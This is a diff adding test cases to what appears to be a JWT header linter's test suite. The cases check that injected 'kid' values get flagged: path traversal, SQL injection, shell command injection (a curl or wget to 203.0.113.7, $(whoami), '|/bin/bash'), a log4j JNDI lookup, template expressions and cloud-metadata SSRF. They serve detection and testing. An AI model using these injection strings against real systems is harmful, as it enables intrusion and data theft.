@@ -144,3 +144,103 @@ given("hdr/hdr-dup-many-found", "Three hundred claims, and the last is called as
 given("hdr/hdr-dup-empty-name-found", "The empty name stands twice", payload_text('"":1,"":2'), "invalid", KEY, signature=None, found="HDR-DUP")
 given("hdr/hdr-dup-unlike-near", "Names that look alike and are written otherwise: one with an accent, composed and not",
       payload_text('"name\\u00e9":1,"namee\\u0301":2'), "valid", KEY, absent="HDR-DUP")
+
+# ---- what a kid would do to a look-up
+
+
+def named(kid, **options):
+    """A company's token with this kid."""
+    return house("house-rsa", "RS256", head={"kid": kid}, **options)
+
+
+def kid_found(name, kid, about, id, **members):
+    given(f"hdr/{name}-found", about, named(kid), "suspicious", pub("house-rsa", kid=kid), found=id, **members)
+
+
+PATHS = (("", "../../../../dev/null", "Steps up to a file that is empty"), ("-device", "/dev/null", "The file that is always empty"),
+         ("-passwords", "/etc/hostname", "A file whose content is known"), ("-inside", "keys/../../public/logo.png", "A step up inside a path"),
+         ("-backslash", "keys\\..\\..\\web.config", "Steps up as Windows writes them"), ("-encoded", "..%2f..%2fdev%2fnull", "Behind percent-encoding"),
+         ("-encoded-twice", "..%252f..%252fdev%252fnull", "Behind two layers of percent-encoding"), ("-end", "keys/..", "A step up at the end"),
+         ("-nul", "house-2026\0.pem", "A NUL, at which readers in C end"), ("-nul-encoded", "house-2026%00.pem", "A NUL behind percent-encoding"),
+         ("-scheme", "file:///proc/sys/kernel/randomize_va_space", "The address of a file"), ("-drive", "C:\\Windows\\win.ini", "A path with a drive"),
+         ("-share", "\\\\203.0.113.7\\keys\\1", "A share on somebody's server"))
+for case, kid, about in PATHS:
+    kid_found(f"hdr-kid-trav{case}", kid, about, "HDR-KID-TRAV", absent="HDR-KID-SQL HDR-KID-CMD", seed=not case)
+QUERIES = (("", "x' UNION SELECT 'secret' -- ", "A union that brings its own secret"), ("-or", "1' OR '1'='1", "A condition that is always true"),
+           ("-number", "1 or 1=1", "The same where the query holds a number"), ("-comment", "house-2026'--", "The end of a statement"),
+           ("-next", "x'; DROP TABLE keys", "A second statement"), ("-quotes", 'x" or ""="', "The other quotation mark"),
+           ("-bracket", "x') union all select 1", "Behind a bracket"), ("-encoded", "x%27%20or%20%271%27%3D%271", "Behind percent-encoding"),
+           ("-time", "x' and sleep(9)#", "A query that waits"))
+for case, kid, about in QUERIES:
+    kid_found(f"hdr-kid-sql{case}", kid, about, "HDR-KID-SQL", absent="HDR-KID-TRAV HDR-KID-CMD", seed=not case)
+COMMANDS = (("", "house-2026|curl 203.0.113.7", "A second program"), ("-semicolon", "key;id", "A second program behind a semicolon"),
+            ("-line", "key\nwget 203.0.113.7", "A second line"), ("-and", "key && sleep 9", "A program behind a program"),
+            ("-pipe", "|/bin/bash -c x", "What opens a file in Ruby starts a program"), ("-dollar", "key$(whoami)", "A program inside a word"),
+            ("-tick", "key`whoami`", "The older form of it"), ("-filter", "*)(uid=*", "The end of an LDAP filter and a wider one"),
+            ("-filter-or", "x)(|(cn=*", "The end of an LDAP filter and a choice"), ("-lookup", "${jndi:ldap://203.0.113.7/a}", "A look-up of log4j"),
+            ("-template", "{{7*7}}", "An expression of a template"), ("-template-java", "#{T(java.lang.Runtime)}", "An expression of Spring"),
+            ("-template-erb", "<%= 7*7 %>", "An expression of ERB"), ("-metadata", "http://169.254.169.254/latest/meta-data", "The metadata of a cloud"),
+            ("-gopher", "gopher://127.0.0.1:6379/_x", "A scheme that reaches databases"))
+for case, kid, about in COMMANDS:
+    kid_found(f"hdr-kid-cmd{case}", kid, about, "HDR-KID-CMD", absent="HDR-KID-TRAV HDR-KID-SQL", seed=not case)
+given("hdr/hdr-kid-cmd-placeholder-near", "A placeholder that a deployment forgot to fill in is low", named("${KEY_ID}"), "valid",
+      pub("house-rsa", kid="${KEY_ID}"), found="HDR-KID-CMD")
+HONEST_KIDS = (("", "keys/2024-01"), ("-thumbprint", "q-23falevZhhD3hm9CQbkP5MQyU"), ("-guid", "{7D0C1F6A-93B5-4E02-8C4B-5A1E0D9B6F21}"),
+               ("-arn", "arn:aws:kms:eu-central-1:111122223333:key/7d0c1f6a-93b5-4e02-8c4b-5a1e0d9b6f21"), ("-did", "did:web:corp.example#key-1"),
+               ("-did-long", "did:key:z6MkExample#z6MkExample"), ("-url", "https://id.corp.example/keys/1?version=2&use=sig#k;v=1"),
+               ("-vault", "https://corp.vault.example/keys/sign/7d0c1f6a93b5"), ("-spaces", "Payroll signing key (2026), Robin & Kim"),
+               ("-apostrophe", "Robin O'Hara's key"), ("-apostrophes", "the kids' and the parents' key"), ("-quotes", 'the "new" key -- 2026'),
+               ("-base64", "/etA+b/cD=="), ("-dots", "v1..2/key...old"), ("-names", "select/union/or-1/drop"), ("-percent", "100%25 sure"),
+               ("-subject", "auth0|5f7c8ec7c33c6c004bbafe82"), ("-path", "/keys/payroll/1"), ("-sh", "key;v=1|sig.id"), ("-braces", "{key}-[1]<2>"),
+               ("-money", "$1:payroll"), ("-empty", ""), ("-number", "1"), ("-letters", "schlüssel-山田"))
+for case, kid in HONEST_KIDS:
+    given(f"hdr/hdr-kid-trav{case}-near", f"Some name keys like this: {kid or 'not at all'}", named(kid), "valid", pub("house-rsa", kid=kid),
+          absent="HDR-KID-TRAV HDR-KID-SQL HDR-KID-CMD HDR-KID-TYPE")
+given("hdr/hdr-kid-sql-near", "An apostrophe in a name", named("Robin O'Hara; or Kim"), "valid", pub("house-rsa", kid="Robin O'Hara; or Kim"),
+      absent="HDR-KID-SQL")
+given("hdr/hdr-kid-cmd-near", "A scheme and marks that are nobody's command", named("urn:key;id=5|a&b"), "valid",
+      pub("house-rsa", kid="urn:key;id=5|a&b"), absent="HDR-KID-CMD")
+for id in ("trav", "sql", "cmd", "type"):
+    vector(f"hdr/hdr-kid-{id}-clear", "An ordinary enterprise token", v1(JUNE, "ent-current"), "valid", absent=f"HDR-KID-{id.upper()}")
+for case, value in (("", 1), ("-null", None), ("-list", ["house-2026"]), ("-object", {"$ne": ""}), ("-true", True)):
+    given(f"hdr/hdr-kid-type{case}-found", "A kid that is no string", rewritten(house("house-rsa", "RS256"), "header", b'"kid":"house-2026"',
+                                                                                b'"kid":' + compact_json(value)),
+          "invalid", KEY, signature=None, found="HDR-KID-TYPE", absent="HDR-KID-TRAV HDR-KID-SQL HDR-KID-CMD")
+given("hdr/hdr-kid-type-near", "A number with its quotes", named("1"), "valid", pub("house-rsa", kid="1"), absent="HDR-KID-TYPE")
+
+# ---- members out of place
+
+given("hdr/hdr-zip-jws-found", "A signed token that says its payload is compressed, which it is not", header_text('"zip":"DEF"'), "invalid", KEY,
+      signature=None, found="HDR-ZIP-JWS", seed=True)
+given("hdr/hdr-zip-jws-other-found", "An algorithm of compression that is not defined", header_text('"zip":"GZ"'), "invalid", KEY, signature=None,
+      found="HDR-ZIP-JWS")
+given("hdr/hdr-zip-jws-number-found", "zip is a number", header_text('"zip":1'), "invalid", KEY, signature=None, found="HDR-ZIP-JWS")
+vector("hdr/hdr-zip-jws-clear", "An ordinary enterprise token", v2(JUNE, "ent-current"), "valid", absent="HDR-ZIP-JWS HDR-CTY HDR-UNK HDR-SIZE")
+given("hdr/hdr-zip-jws-health-near", "A SMART Health Card: its payload is compressed by a specification of its own",
+      Token({"zip": "DEF", "alg": "RS256", "kid": "house-2026"},
+            bytes.fromhex("ab562a2e4d4a4a2c5250ca28292928b6d2d7cf4cd14bce2fca4b2dd64bad48cc2dc8495552d2512acd4d52b252324d344931524c3748d45132b2d235"
+                          "b43034b334aa0500"), "house-rsa"), "valid", KEY, found="HDR-ZIP-JWS")
+given("hdr/hdr-zip-jws-near", "A claim called zip", payload_text('"zip":"12345"'), "valid", KEY, absent="HDR-ZIP-JWS")
+given("hdr/hdr-cty-found", "The payload is said to be a JWT, and holds claims", header_text('"cty":"JWT"'), "valid", KEY, found="HDR-CTY", seed=True)
+given("hdr/hdr-cty-message-found", "The payload is said to be a JWT, and is a text", message(head={"cty": "jwt"}), "valid", KEY, found="HDR-CTY")
+given("hdr/hdr-cty-clear", "A token that says nothing of its content", house("house-rsa", "RS256"), "valid", KEY, absent="HDR-CTY")
+given("hdr/hdr-cty-near", "A token that holds a token, and says so",
+      message(house("house-rsa", "RS256").make(None)[0].encode(), {"cty": "JWT"}), "valid", KEY, absent="HDR-CTY")
+given("hdr/hdr-cty-other-near", "Content of another kind", message(head={"cty": "text/plain"}), "valid", KEY, absent="HDR-CTY")
+given("hdr/hdr-unk-found", "A member that nobody knows", header_text('"channel":"a7"'), "valid", KEY, found="HDR-UNK")
+given("hdr/hdr-unk-several-found", "Several, one of them in another case than the registered one", header_text('"X5T":"a7","channel":1'), "valid", KEY,
+      found="HDR-UNK")
+given("hdr/hdr-unk-clear", "A header of the three usual members", house("house-rsa", "RS256"), "valid", KEY, absent="HDR-UNK")
+given("hdr/hdr-unk-near", "Members that known software writes",
+      header_text(f'"nonce":"n","ctx":"Y3R4","kdf_ver":2,"url":"https://id.corp.example/","iss":"{HOUSE}","client":"c","signer":"s","exp":1780275600'),
+      "valid", KEY, absent="HDR-UNK")
+given("hdr/hdr-size-found", "Seventeen kilobytes in the header", header_text('"channel":"' + "a" * 17000 + '"'), "valid", KEY, found="HDR-SIZE")
+given("hdr/hdr-size-edge-found", "One member more than are usual", header_text(json.dumps({f"c{i}": i for i in range(62)})[1:-1]), "valid", KEY,
+      found="HDR-SIZE")
+given("hdr/hdr-size-deep-found", "One level more than is usual", header_text('"channel":' + "[" * 8 + "1" + "]" * 8), "valid", KEY, found="HDR-SIZE")
+given("hdr/hdr-size-clear", "A header of the three usual members", house("house-rsa", "RS256"), "valid", KEY, absent="HDR-SIZE")
+given("hdr/hdr-size-near", "As many members as are usual", header_text(json.dumps({f"c{i}": i for i in range(61)})[1:-1]), "valid", KEY,
+      absent="HDR-SIZE")
+given("hdr/hdr-size-deep-near", "As many levels as are usual", header_text('"channel":' + "[" * 7 + "1" + "]" * 7), "valid", KEY, absent="HDR-SIZE")
+given("hdr/hdr-size-chain-near", "Federation statements are long by nature", header_text('"trust_chain":["' + "a" * 17000 + '"]'), "valid", KEY,
+      absent="HDR-SIZE HDR-UNK")
